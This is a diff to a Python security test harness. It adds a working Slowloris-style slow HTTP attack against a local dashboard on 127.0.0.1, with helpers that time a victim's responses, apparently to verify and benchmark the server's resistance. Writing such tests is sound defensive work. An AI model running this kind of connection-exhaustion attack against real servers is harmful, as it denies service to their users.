@@ -3,6 +3,7 @@
 user waits for `aegis queue` under each). Each attack runs as an unprivileged user in a
 child process (secharness.AsUser) and holds its connections until killed.
 """
+import encodings.idna  # noqa: F401  (socket names are encoded with it; the users cannot import it later)
 import json
 import os
 import socket
@@ -235,3 +236,109 @@ def dashboard_ttfb(port, path, n=40):
             out.append([time.monotonic() - t0, False])
         time.sleep(0.02)
     return out
+
+
+# --- The dashboard's slow HTTP attack (issue 33, item 6) -------------------------------------
+# test_slow_http.py asserts the safe outcome; bench_dos.py measures the victim's first byte.
+
+def _dashboard_conn(port, timeout=0.05):  # short: a full backlog must not stall the attack
+    s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
+    s.setblocking(False)
+    return s
+
+
+def slow_http(port, user, dribblers=150, silent=40, unread=10, every_s=1.0):
+    """Slowloris against the dashboard on 127.0.0.1:`port`: `dribblers` connections send a
+    request head one byte every `every_s` seconds and never finish it, `silent` ones send
+    nothing, `unread` ones ask for the page again and again and never read a reply. A dropped
+    connection is reopened at the next round, so the pressure lasts until the attack is killed."""
+    head = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 100000
+
+    def body(report):
+        slots = [["dribble", None, 0] for _ in range(dribblers)] + [["silent", None, 0] for _ in range(silent)] + \
+                [["unread", None, 0] for _ in range(unread)]
+        opened = 0
+
+        def refill():
+            nonlocal opened
+            for slot in slots:
+                if slot[1] is not None:
+                    continue
+                try:
+                    slot[1], slot[2] = _dashboard_conn(port), 0
+                    opened += 1
+                except OSError:
+                    pass
+
+        def drop(slot):
+            try:
+                slot[1].close()
+            except OSError:
+                pass
+            slot[1] = None
+
+        refill()
+        report(f"ready {sum(1 for s in slots if s[1])}\n".encode())
+        while True:
+            for slot in slots:
+                kind, s, sent = slot
+                if s is None:
+                    continue
+                try:
+                    if kind == "dribble":
+                        slot[2] += s.send(head[sent:sent + 1])
+                    elif kind == "unread":
+                        s.send(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
+                    elif s.recv(1) == b"":  # silent: only notices being closed
+                        drop(slot)
+                except (BlockingIOError, InterruptedError):
+                    pass
+                except OSError:
+                    drop(slot)
+            time.sleep(every_s)
+            refill()
+    return AsUser(user, body)
+
+
+def http_get_timed(port, path, timeout):
+    """(status, seconds to the first byte, seconds to the whole reply, body) of one GET on a
+    new connection; status 0 when it failed or took longer than `timeout`."""
+    t0 = time.monotonic()
+    try:
+        s = socket.create_connection(("127.0.0.1", port), timeout=timeout)
+        s.settimeout(max(0.001, timeout - (time.monotonic() - t0)))
+        s.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n".encode())
+        first = s.recv(65536)
+        ttfb = time.monotonic() - t0
+        data = first
+        while first:
+            s.settimeout(max(0.001, timeout - (time.monotonic() - t0)))
+            first = s.recv(65536)
+            data += first
+        s.close()
+    except OSError:
+        return 0, timeout, timeout, b""
+    total = time.monotonic() - t0
+    headers, _, body = data.partition(b"\r\n\r\n")
+    try:
+        status = int(headers.split(b" ", 2)[1])
+    except (IndexError, ValueError):
+        status = 0
+    return status, ttfb, total, body
+
+
+def dashboard_latency(port, user, paths=("/", "/api/queue"), n=5, timeout=10.0, pause_s=0.02):
+    """`n` rounds of one GET per path by `user`, each on a new connection:
+    [path, status, ttfb_s, total_s, body_bytes, body_head] per request."""
+    def body(report):
+        out = []
+        for _ in range(n):
+            for path in paths:
+                status, ttfb, total, text = http_get_timed(port, path, timeout)
+                out.append([path, status, ttfb, total, len(text), text[:40].decode(errors="replace")])
+                time.sleep(pause_s)
+        return json.dumps(out).encode()
+    out = AsUser(user, body).result(timeout=n * len(paths) * (timeout + 5) + 60)
+    if out.startswith(b"ERROR"):
+        raise RuntimeError(out.decode(errors="replace"))
+    return json.loads(out)
